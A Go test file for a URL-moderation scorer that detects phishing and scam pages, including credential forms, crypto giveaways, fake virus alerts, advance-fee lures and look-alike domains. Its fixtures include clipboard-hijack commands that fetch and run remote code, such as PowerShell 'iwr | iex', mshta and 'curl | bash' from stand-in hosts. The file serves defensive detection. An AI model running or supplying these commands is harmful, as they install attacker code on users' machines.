package score

import (
	"fmt"
	"strings"
	"testing"

	"github.com/shortlink/shortlink/backend/moderation"
)

// page is a capture of url with text and forms, for the signals' tests.
func page(url, text string, forms ...moderation.Form) moderation.Capture {
	return moderation.Capture{Profile: moderation.Desktop, URL: url, FinalURL: url, Status: 200, Text: text, Forms: forms}
}

// clipped is c with what its scripts put on the clipboard.
func clipped(c moderation.Capture, texts ...string) moderation.Capture {
	c.Clipboard = texts
	return c
}

func withLinks(c moderation.Capture, hosts ...string) moderation.Capture {
	c.Links = hosts
	return c
}

func login(action string) moderation.Form {
	return moderation.Form{Action: action, Method: "post", Password: true, Fields: []string{"user", "pass"},
		Types: []string{"text", "password"}, Inputs: 2}
}

// TestStructuralSignals: each signal fires on its kind of page and stays quiet on the honest
// page that looks most like it.
func TestStructuralSignals(t *testing.T) {
	grid := moderation.Form{Inputs: 12}
	for i := 1; i <= 12; i++ {
		grid.Fields = append(grid.Fields, fmt.Sprintf("word%d", i))
		grid.Types = append(grid.Types, "text")
	}
	address := moderation.Form{Inputs: 12}
	for _, f := range []string{"first", "last", "street", "city", "zip", "state", "country", "phone", "email", "company", "vat", "notes"} {
		address.Fields = append(address.Fields, f)
		address.Types = append(address.Types, "text")
	}
	phrase := moderation.Form{Fields: []string{"data"}, Hints: []string{"Paste your 24 words separated by spaces"}, Types: []string{"textarea"}, Inputs: 1}
	drawn := page("https://docs-view.example.app/", "", login(""))
	drawn.OCRText = "Sign in to your mailbox Email Password Forgot password Next"
	drawnNoOCR := page("https://docs-view.example.app/", "", login(""))
	drawnNoOCR.Screenshot = []byte{1}
	copied := page("https://secure-access.example.top/", "Log on. Username. Password.", login(""))
	copied.Links = []string{"www.barclays.co.uk", "www.barclays.co.uk", "www.barclays.co.uk", "secure-access.example.top"}
	ownLinks := page("https://bank.barclays.co.uk/login", "Log on. Username. Password.", login(""))
	ownLinks.Links = copied.Links

	tests := []struct {
		name   string
		signal func(moderation.Capture) (Signal, bool)
		c      moderation.Capture
		want   float64 // 0: no signal
	}{
		{"a grid of 12 words", secretSignal, page("https://restore.example.app/", "Import your wallet", grid), weightSecret},
		{"an address form of 12 fields", secretSignal, page("https://shop.example/checkout", "Shipping address", address), 0},
		{"a grid on a wallet's own host", secretSignal, page("https://metamask.io/import", "Import your wallet", grid), 0},
		{"a phrase by its hint", secretSignal, page("https://sync.example.dev/", "Synchronise", phrase), weightSecret},

		{"a password to another site's script", postsSignal, page("https://sso.acme-hr.example/", "Sign in", login("https://drop.example.top/gate.php")), weightPostsScript},
		{"a password to a form collector", postsSignal, page("https://view.example.app/", "Sign in", login("https://formspree.io/f/abc")), weightPostsScript},
		{"a password to another site", postsSignal, page("https://sso.acme-hr.example/", "Sign in", login("https://auth.other.example/session")), weightPostsElsewhere},
		{"a password to another site, from a free host", postsSignal, page("https://sso-acme.pages.dev/", "Sign in", login("https://auth.other.example/session")), weightPostsOther},
		{"a password to another site of the company's name", postsSignal, page("https://portal.contoso-health.com/", "Sign in", login("https://login.contoso-id.net/adfs/ls/")), weightPostsOwnOrg},
		{"a password to the company's own identity provider", postsSignal, page("https://intranet.acme.com/", "Sign in", login("https://idp.acme.com/adfs/ls/")), 0},
		{"a password to Okta", postsSignal, page("https://portal.acme.com/", "Sign in", login("https://acme.okta.com/login/do-login")), 0},
		{"a PIN to the reader's own card reader's component", postsSignal, page("https://moica.example.gov.tw/renew", "憑證展期 請插入晶片卡並輸入 PIN 碼",
			moderation.Form{Action: "http://127.0.0.1:61161/sign", Fields: []string{"pin"}, Types: []string{"password"}, Password: true, Inputs: 1}), 0},
		{"a password sent by script to localhost and to another site", postsSignal, func() moderation.Capture {
			c := page("https://sso.acme-hr.example/", "Sign in", login(""))
			c.Sends = []string{"http://localhost:9443/bridge", "https://drop.example.top/gate.php"}
			return c
		}(), weightPostsScript},
		{"a search form to another site", postsSignal, page("https://blog.example/", "Blog", moderation.Form{Action: "https://search.example.net/q.php", Fields: []string{"q"}}), 0},

		{"links to the bank it copies", copiedSignal, copied, weightCopied},
		{"the bank's own page", copiedSignal, ownLinks, 0},

		{"send BTC, get double back", giveawaySignal, page("https://event.example.live/", "Send 0.1 to 10 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and receive double back"), weightGiveaway},
		{"ETH giveaway", giveawaySignal, page("https://drop.example.org/", "Giveaway! Send ETH to 0x8ba1f109551bD432803012645Ac136ddd64DBA72 to take part"), weightGiveawayWeak},
		{"USDT 双倍返还", giveawaySignal, page("https://huodong.example.vip/", "向地址 TJYeasTPa6gpEEfYqEG1RJbgfVvXH9FfkA 转入USDT 系统自动返还双倍"), weightGiveaway},
		{"a merchant's Bitcoin invoice", giveawaySignal, page("https://pay.example.shop/", "Send exactly 0.001 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq within 15 minutes"), 0},
		{"news quoting a giveaway", giveawaySignal, page("https://news.example/", "Scammers ask you to send BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and get double back"), 0},

		{"a fake virus alert", alertSignal, page("https://pc-alert.example.online/", "Your computer is infected with spyware. Do not restart. Call support +1 (844) 555-0193"), weightFakeAlert},
		{"病毒警告", alertSignal, page("http://jiance.example.xyz/", "您的电脑已感染病毒 请勿关闭此页面 请立即拨打 400-855-0917"), weightFakeAlert},
		{"an alarm and a chat", alertSignal, page("https://alert.example.top/", "Your device has been hacked! Contact us on Telegram now"), weightContactOnly},
		{"a service desk with a phone number", alertSignal, page("https://help.example.com/", "IT service desk: call +1 (800) 555-0100 for password resets and VPN trouble"), 0},
		{"a helpdesk's page on infections", alertSignal, withLinks(page("https://support.example.com/", "If your computer is infected, call us at +1 (800) 555-0100. "+
			strings.Repeat("Our technicians remove malware, restore backups and explain what happened, step by step. ", 8)), "support.example.com"), 0},
		{"a long alarm that links nowhere", alertSignal, page("https://pc-check.example.site/", "Access to this PC has been blocked. Call Windows Support (888)412-0073. "+
			strings.Repeat("Your passwords, photos and banking details are at risk until a technician removes the threat. ", 8)), weightFakeAlert},
		{"an alarm, a chat and do not close", alertSignal, page("https://jiance.example.xyz/", "您的手机已被入侵 请勿关闭 立即添加客服微信 kf1234"), weightFakeAlert},
		{"a short page of help with its own links", alertSignal, withLinks(page("https://its.example.edu.cn/", "电脑中毒怎么办 请拨打服务热线 028-8541 2345"),
			"its.example.edu.cn", "its.example.edu.cn", "its.example.edu.cn"), 0},
		{"news of fake alerts", alertSignal, page("https://news.example/", "The pop-up claims the computer is infected and says to call 1-844-555-0193: a tech support scam"), 0},

		{"a task scam's deposit", advanceFeeSignal, page("https://earn.example/", "Earn $300 per day in commission. New members must top up a deposit of 100 USDT to unlock tasks"), weightAdvanceFee},
		{"a loan's fee", advanceFeeSignal, page("https://loan.example.top/", "Your loan of $5,000 has been approved. To release the funds pay the insurance fee"), weightAdvanceFee},
		{"先充值", advanceFeeSignal, page("https://jianzhi.example.cc/", "在家兼职 每单佣金5-50元 新用户需先充值激活账号"), weightAdvanceFee},
		{"an honest job", advanceFeeSignal, page("https://careers.example/", "Part-time, $18 per hour. We never ask candidates for a deposit or fees."), 0},
		{"an honest loan", advanceFeeSignal, page("https://cu.example/loans", "Loans approved in a day. No application fee, no deposit."), 0},

		{"sign in or lose the mailbox", ultimatumSignal, page("https://mail-upgrade.example.com/", "Upgrade within 24 hours or your account will be deactivated", login("")), weightUltimatum},
		{"邮箱升级", ultimatumSignal, page("http://mail.example.top/", "未在24小时内完成升级的账号将被停用", login("")), weightUltimatum},
		{"a password that expired", ultimatumSignal, page("https://account.example.com/", "Your password expires today. Choose a new one or the account is locked",
			moderation.Form{Password: true, Fields: []string{"current", "new", "confirm"}, Types: []string{"password", "password", "password"}}), 0},

		{"a path shown, a PowerShell line copied", hiddenCommandSignal, clipped(page("https://hrdocs.example.com/view", `Open it from File Explorer: copy the path C:\company\share\letter.docx, press Win+E and paste it in the address bar`),
			`powershell -w h -c "iwr http://cdn.example.top/a.ps1 | iex"          # C:\company\share\letter.docx`), weightHiddenCommand},
		{"a code shown, mshta copied", hiddenCommandSignal, clipped(page("https://verify.example.site/", "Verify you are human: press Win+R, paste your code ✔ 7731 and press Enter"),
			"mshta https://cdn.example.top/v.hta # ✔ 7731"), weightHiddenCommand},
		{"a script piped into a shell, not shown", hiddenCommandSignal, clipped(page("https://meet.example.live/fix", "Your camera driver is blocked. Open Terminal, paste and press Return."),
			"curl -fsSL https://cdn.example.top/fix | bash"), weightHiddenCommand},
		{"an install line shown and copied", hiddenCommandSignal, clipped(page("https://tool.example.dev/install", "Install the command line tool: $ curl -fsSL https://tool.example.dev/install.sh | sh"),
			"curl -fsSL https://tool.example.dev/install.sh | sh"), 0},
		{"a PowerShell line shown over two lines, copied as one", hiddenCommandSignal, clipped(page("https://docs.example.com/setup", "Run in PowerShell: Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.example.com/install.ps1 | iex"),
			"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser;\n irm https://get.example.com/install.ps1 | iex"), 0},
		{"a link copied", hiddenCommandSignal, clipped(page("https://sho.example/share", "Share this page"), "https://sho.example/s/abc"), 0},
		{"a coupon code copied", hiddenCommandSignal, clipped(page("https://shop.example/deal", "Use the code at checkout"), "SPRING-25"), 0},

		{"words drawn, read by OCR", hiddenTextSignal, drawn, weightDrawnText},
		{"no words, not read", hiddenTextSignal, drawnNoOCR, weightHiddenText},
		{"a short honest login", hiddenTextSignal, page("https://app.example.io/login", "Sign in. Email. Password. Forgot?", login("")), 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, ok := tt.signal(tt.c)
			if tt.want == 0 {
				if ok {
					t.Errorf("signal %+v, want none", s)
				}
				return
			}
			if !ok || s.Weight != tt.want {
				t.Errorf("signal %+v (%v), want weight %.2f", s, ok, tt.want)
			}
			t.Logf("%s %.2f: %s", s.Kind, s.Weight, s.Detail)
		})
	}
}

// TestBrandList: brands.txt parses, every domain is registrable by the public suffix list (or
// a host under one), and no brand's own domain is a look-alike of another's.
func TestBrandList(t *testing.T) {
	if len(brands) < 100 {
		t.Errorf("%d brands, want the list of brands.txt", len(brands))
	}
	kinds := map[string]int{}
	for _, b := range brands {
		kinds[b.kind]++
		for _, d := range b.domains {
			if b2, _, detail, ok := lookAlike(d); ok {
				t.Errorf("%s's own %s looks like %s: %s", b.keys[0], d, b2.keys[0], detail)
			}
		}
	}
	for _, k := range []string{"payment", "bank", "webmail", "courier", "government", "crypto", "gaming", "identity"} {
		if kinds[k] == 0 {
			t.Errorf("no brand of kind %s", k)
		}
	}
	if _, err := parseBrands(strings.NewReader("bank | x | x.com\n")); err == nil {
		t.Error("a line of three columns was read")
	}
	for _, host := range []string{"steamcommunnity.com", "stearnpowered.com", "rob1ox.com", "xn--binnce-5nf.com", "metamask-restore.app", "royalmail-redeliver.com"} {
		if _, _, _, ok := lookAlike(host); !ok {
			t.Errorf("%s is no look-alike", host)
		}
	}
}
